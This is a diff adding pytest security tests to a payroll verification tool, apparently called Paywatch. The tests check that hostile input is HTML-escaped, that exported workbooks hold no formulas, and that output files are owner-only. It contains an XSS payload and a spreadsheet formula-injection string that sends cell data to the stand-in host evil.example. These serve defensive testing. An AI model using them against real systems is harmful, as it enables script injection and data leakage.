@@ -10,7 +10,10 @@ from __future__ import annotations
 import json
 import re
 import subprocess
+import sys
+import zipfile
 from pathlib import Path
+from xml.etree import ElementTree
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -315,3 +318,102 @@ def test_any_manifest_bytes_give_a_manifest_or_an_extract_error(data):
         parse_manifest(data)
     except ExtractError as e:
         assert e.file == "manifest.json" and "\n" not in e.one_line()
+
+
+# ------------------------------------------------------------------------------ 4. script and formula text
+
+XSS = "<img src=x onerror=alert(7)>"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+
+
+def _xlsx_texts(path: Path) -> tuple[list[str], int]:
+    """Every text cell of a workbook (shared and inline strings) and the number of formulas."""
+    texts, formulas = [], 0
+    with zipfile.ZipFile(path) as z:
+        for name in z.namelist():
+            if not name.endswith(".xml"):
+                continue
+            root = ElementTree.fromstring(z.read(name))
+            texts += ["".join(si.itertext()) for si in root.iter(f"{{{_NS['m']}}}si")]
+            texts += ["".join(t.itertext()) for t in root.iter(f"{{{_NS['m']}}}is")]
+            formulas += sum(1 for _ in root.iter(f"{{{_NS['m']}}}f"))
+    return texts, formulas
+
+
+@pytest.mark.parametrize("werks", [XSS, FORMULA])
+def test_hostile_duty_station_is_a_finding_escaped_in_every_page_and_never_a_formula(tmp_path, werks):
+    """WERKS holding script or formula text for one staff member: the run is processed (exit
+    0, a PW141 finding on that staff member — not a stopped run), no .html Paywatch writes
+    (Data Docs included) carries the value unescaped, and no workbook cell is a formula or
+    starts like one."""
+    quoted = '"' + werks.replace('"', '""') + '"'
+    files = {"PA0001.csv": DEFAULT_FILES["PA0001.csv"].replace('"Dupont, Marie",GVA', f'"Dupont, Marie",{quoted}')}
+    folder = write_run(tmp_path / "run", files=files)
+    db = tmp_path / "wh" / "warehouse.duckdb"
+    db.parent.mkdir()
+    p = verify(folder, db, tmp_path / "out")
+    assert p.returncode == 0, describe(p)
+    rows = (tmp_path / "out" / "exceptions.csv").read_text(encoding="utf-8").splitlines()
+    assert any(",PW141,unknown_duty_station," in r and r.split(",")[1] == "10000001" for r in rows), rows
+    pages = [f for root in (tmp_path / "out", db.parent) for f in root.rglob("*.html")]
+    assert any("data_docs" in f.parts for f in pages) and len(pages) > 5
+    for page in pages:
+        text = page.read_text(encoding="utf-8", errors="replace")
+        assert werks not in text, page
+        assert "<img src=x" not in text, page
+    books = [f for root in (tmp_path / "out", db.parent) for f in root.rglob("*.xlsx")]
+    assert books
+    for book in books:
+        texts, formulas = _xlsx_texts(book)
+        assert formulas == 0, book
+        assert not [t for t in texts if t.startswith(FORMULA_START)], book
+
+
+def test_every_data_docs_value_is_escaped_before_gx_renders_it():
+    import polars as pl
+
+    from paywatch.dq.runner import _plain, html_safe
+
+    f = pl.DataFrame({"duty_station": [XSS, "GVA", "a&b"], "n": [1, 2, 3]})
+    safe = html_safe(f)
+    assert safe["duty_station"].to_list() == ["&lt;img src=x onerror=alert(7)&gt;", "GVA", "a&amp;b"]
+    assert safe["n"].to_list() == [1, 2, 3]
+    assert _plain(safe["duty_station"].to_list()) == f["duty_station"].to_list()
+
+
+# ------------------------------------------------------------------------------ 5. file modes
+
+
+def _modes(root: Path) -> list[str]:
+    bad = []
+    for p in [root, *root.rglob("*")]:
+        mode = p.lstat().st_mode & 0o777
+        if p.is_dir() and mode != 0o700 or p.is_file() and mode != 0o600:
+            bad.append(f"{oct(mode)} {p}")
+    return bad
+
+
+def test_simulate_writes_owner_only_files(tmp_path):
+    out = tmp_path / "sim"
+    p = subprocess.run([sys.executable, "-m", "paywatch.cli", "simulate", "--out", str(out), "--staff", "40",
+                        "--months", "1"], capture_output=True, text=True, timeout=600)
+    assert p.returncode == 0, p.stderr[-2000:]
+    assert (out / "truth.csv").exists() and (out / "runs.txt").exists()
+    assert _modes(out) == []
+
+
+def test_monthly_close_and_verify_write_owner_only_files(tmp_path):
+    sample = Path(__file__).resolve().parent.parent / "data_samples" / "gv-300"
+    runs = (sample / "runs.txt").read_text().split()
+    db = tmp_path / "home" / "warehouse.duckdb"
+    for name in runs[: runs.index("GV-202512-FINAL") + 1]:
+        p = subprocess.run([sys.executable, "-m", "paywatch.cli", "verify", str(sample / name), "--db", str(db)],
+                           capture_output=True, text=True, timeout=600)
+        assert p.returncode == 0, p.stderr[-2000:]
+    p = subprocess.run([sys.executable, "-m", "paywatch.cli", "close", "202512", "--db", str(db)],
+                       capture_output=True, text=True, timeout=600)
+    assert p.returncode == 0, p.stderr[-2000:]
+    assert list((db.parent / "reports").glob("*-close/monthly_summary.html"))
+    assert _modes(db.parent) == []
